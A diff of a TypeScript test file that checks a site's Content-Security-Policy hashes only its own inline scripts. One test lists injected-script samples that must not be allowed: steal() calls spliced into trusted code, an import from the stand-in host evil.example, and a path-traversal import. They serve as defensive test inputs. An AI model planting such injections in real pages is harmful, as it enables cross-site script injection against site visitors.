@@ -1,5 +1,8 @@
 import { createHash } from "node:crypto";
 import { expect, test } from "vitest";
+import { COLOR_MODE_BOOT_SCRIPT } from "#app/lib/color-mode.ts";
+import { HAND_OFF_SCRIPT } from "#app/lib/hand-off-script.ts";
+import { AFTER_FIRST_PAINT, loadScriptsLate } from "./late-scripts.ts";
 import { contentSecurityPolicy } from "./security-headers.ts";
 
 const site = {
@@ -8,11 +11,44 @@ const site = {
 };
 const hash = (code: string) => `'sha256-${createHash("sha256").update(code).digest("base64")}'`;
 
-test("inline scripts are named by their hash, files are not", () => {
-  const html = `<script>one()</script><script src="/a.js"></script><script type="module" async="">two(
-)</script><script>one()</script>`;
-  const policy = contentSecurityPolicy(site, { pathname: "/", html });
-  expect(policy).toContain(`script-src 'self' ${hash("one()")} ${hash("two(\n)")};`);
+const SETTINGS = `window.__reactRouterContext = {"basename":"/","future":{}};window.__reactRouterContext.stream = new ReadableStream({start(controller){window.__reactRouterContext.streamController = controller;}}).pipeThrough(new TextEncoderStream());`;
+const MODULES = `import "/assets/manifest-1a.js";
+import * as route0 from "/assets/root-2b.js";
+import * as route1_clientLoader from "/assets/loader-3c.js";
+import * as route1_main from "/assets/page-4d.js";
+const route1 = {...route1_clientLoader,...route1_main};
+  window.__reactRouterRouteModules = {"root":route0,"routes/content-page":route1};
+
+import("/assets/entry.client-5e.js");`;
+const TEMPLATE = [COLOR_MODE_BOOT_SCRIPT, SETTINGS, HAND_OFF_SCRIPT];
+
+const scriptsOf = (html: string) =>
+  /script-src ([^;]*)/.exec(contentSecurityPolicy(site, { pathname: "/", html }))?.[1];
+
+test("the template's inline scripts are named by their hash, files are not", () => {
+  const inline = TEMPLATE.map((code) => `<script>${code}</script>`).join("");
+  const html = loadScriptsLate(`<html><head></head>${inline}<script src="/a.js"></script>
+    <script type="module" async="">${MODULES}</script></html>`);
+  const late = /<script type="module">([^]*?)<\/script>/.exec(html)?.[1] ?? "";
+  expect(scriptsOf(html)).toBe(["'self'", ...[...TEMPLATE, late].map(hash)].join(" "));
+});
+
+test("a script that came into the page otherwise is not allowed, wherever it stands", () => {
+  const foreign = [
+    "steal()",
+    `${COLOR_MODE_BOOT_SCRIPT};steal()`,
+    ` ${HAND_OFF_SCRIPT}`,
+    SETTINGS.replace('"/"', "steal()"),
+    SETTINGS.replace("{}}", '{}};steal();x={"y":1}'),
+    `${AFTER_FIRST_PAINT}steal()`,
+    `${AFTER_FIRST_PAINT}const []=await Promise.all([import("//evil.example/a.js")]);window.__reactRouterRouteModules = {};import("/assets/a.js");`,
+    `${AFTER_FIRST_PAINT}const []=await Promise.all([import("/assets/../media/a.js")]);window.__reactRouterRouteModules = {};import("/assets/a.js");`,
+    `${AFTER_FIRST_PAINT}const []=await Promise.all([import("/assets/a.js")]);window.__reactRouterRouteModules = {"root":steal()};import("/assets/a.js");`,
+  ];
+  for (const code of foreign) {
+    expect(scriptsOf(`<script>${code}</script><body></body>`), code).toBe("'self'");
+    expect(scriptsOf(`<body></body><script type="module">${code}</script>`), code).toBe("'self'");
+  }
 });
 
 test("data in a page is no code and needs no name", () => {
@@ -21,7 +57,7 @@ test("data in a page is no code and needs no name", () => {
 });
 
 test("nothing unsafe, nothing foreign, no plugin, no frame", () => {
-  const policy = contentSecurityPolicy(site, { pathname: "/", html: "<script>one()</script>" });
+  const policy = contentSecurityPolicy(site, { pathname: "/", html: `<script>${HAND_OFF_SCRIPT}</script>` });
   expect(policy).not.toMatch(/unsafe|https?:|\*|data:/);
   for (const rule of ["default-src 'none'", "base-uri 'none'", "object-src 'none'", "frame-ancestors 'none'"]) {
     expect(policy).toContain(rule);
